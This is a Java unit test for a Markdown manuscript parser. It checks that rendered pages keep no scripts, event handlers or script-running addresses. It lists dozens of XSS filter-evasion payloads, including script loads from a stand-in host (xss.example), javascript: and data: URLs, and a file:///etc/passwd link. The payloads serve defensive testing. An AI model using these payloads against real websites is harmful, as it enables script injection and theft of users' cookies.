package dev.lectern.book.manuscript;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/// Books that are written to run scripts in their readers' browsers: the vectors of the
/// [OWASP cheat sheet](https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and those
/// that Markdown has of its own, shown by a renderer that passes on all HTML and every address.
class ScriptInjectionTest {

    private static final List<org.commonmark.Extension> TABLES = List.of(TablesExtension.create());

    private static final Set<String> ELEMENTS = Set.of(
            "page",
            "p",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "a",
            "img",
            "em",
            "strong",
            "code",
            "pre",
            "br",
            "hr",
            "ul",
            "ol",
            "li",
            "blockquote",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td");

    private static final Set<String> ATTRIBUTES = Set.of("href", "src", "alt", "title", "class", "start", "align");

    private static final List<String> HTML = List.of(
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<script>alert(1)</script>",
            "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=javascript:alert('XSS')>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
            "\\<a onmouseover=alert(document.cookie)\\>xxs link\\</a\\>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC= onmouseover=\"alert('xxs')\">",
            "<IMG onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=http://xss.example/xss.js?< B >",
            "<SCRIPT SRC=//xss.example/.j>",
            "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
            "<iframe src=http://xss.example/scriptlet.html <",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<IMG DYNSRC=\"javascript:alert('XSS')\">",
            "<IMG LOWSRC=\"javascript:alert('XSS')\">",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
            "<svg/onload=alert('XSS')>",
            "Set.constructor`alert\\x28document.domain\\x29```",
            "<BODY ONLOAD=alert('XSS')>",
            "<BGSOUND SRC=\"javascript:alert('XSS');\">",
            "<BR SIZE=\"&{alert('XSS')}\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
            "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
            "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
            "<XSS STYLE=\"behavior: url(xss.htc);\">",
            "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
            "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH\" type=\"image/svg+xml\"></EMBED>",
            "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
            "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
            "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-",
            "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
            "<SCRIPT \"a='>'\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
            "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.example/xss.js\"></SCRIPT>",
            "<A HREF=\"http://66.102.7.147/\" onclick=alert(1)>XSS</A>",
            "<details open ontoggle=alert(1)>x</details>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">X</a>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\<script>alert(1)\\</script>");

    private static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript&#58;alert(1)",
            "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;vascript:alert(1)",
            "<java\tscript:alert(1)>",
            "< javascript:alert(1)>",
            "<javascript\t:alert(1)>",
            "\\javascript:alert(1)",
            "java\\script:alert(1)",
            "\u0001javascript:alert(1)",
            "java\u200bscript:alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "javascript://www.example.com%0Aprompt(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg/onload=alert(1)>",
            "view-source:javascript:alert(1)",
            "feed:javascript:alert(1)",
            "file:///etc/passwd",
            "blob:https://example.com/1",
            "https://example.com/a.png\"onload=\"alert(1)",
            "x' onclick='alert(1)");

    static Stream<String> pages() {
        List<String> pages = new ArrayList<>();
        for (String vector : HTML) {
            pages.add(vector);
            pages.add("Some " + vector + " text");
            pages.add("# A heading " + vector);
            pages.add("- an item\n  " + vector);
            pages.add("> " + vector);
            pages.add("[" + vector + "](https://example.com '" + vector + "')");
            pages.add("![" + vector + "](https://example.com/a.png)");
            pages.add("| a |\n|---|\n| " + vector + " |");
            pages.add("```" + vector + "\n" + vector + "\n```");
            pages.add("    " + vector + "\n");
            pages.add("`" + vector);
            pages.add("~~~\n" + vector);
            pages.add("<!-- " + vector);
        }
        for (String address : ADDRESSES) {
            pages.add("[x](" + address + ")");
            pages.add("![x](" + address + ")");
            pages.add("[x]\n\n[x]: " + address);
            pages.add("<" + address + ">");
            pages.add("[x](https://example.com \"" + address + "\")");
        }
        return pages.stream();
    }

    @ParameterizedTest
    @MethodSource("pages")
    void a_page_shows_no_script_no_handler_and_no_address_that_runs_code(String page) throws Exception {
        String markdown = PageParser.parse(
                        "a.md", page, Optional.empty(), new GitHubMarkdown(false), UnaryOperator.identity())
                .markdown();

        NodeList shown = shown(markdown).getElementsByTagName("*");
        for (int i = 0; i < shown.getLength(); i++) {
            assertHarmless((Element) shown.item(i));
        }
    }

    private static void assertHarmless(Element element) {
        assertThat(element.getTagName()).isIn(ELEMENTS);
        for (int i = 0; i < element.getAttributes().getLength(); i++) {
            assertThat(element.getAttributes().item(i).getNodeName()).isIn(ATTRIBUTES);
        }
        for (String name : List.of("href", "src")) {
            // As a browser reads it: without the blanks and control characters that it ignores.
            String address = element.getAttribute(name)
                    .replaceAll("[\\p{Cntrl}\\s\\p{Cf}]", "")
                    .toLowerCase(Locale.ROOT);
            assertThat(address.split("[/?#]", 2)[0]).matches("(https?:|mailto:|tel:)?[^:]*");
        }
    }

    /// What the renderer writes is XML, unless HTML of the page has come through.
    private static Element shown(String markdown) throws Exception {
        String html = HtmlRenderer.builder()
                .extensions(TABLES)
                .escapeHtml(false)
                .sanitizeUrls(false)
                .build()
                .render(Parser.builder().extensions(TABLES).build().parse(markdown));
        return DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new InputSource(new StringReader("<page>" + html.replaceAll("[\\x00-\\x08]", "") + "</page>")))
                .getDocumentElement();
    }
}
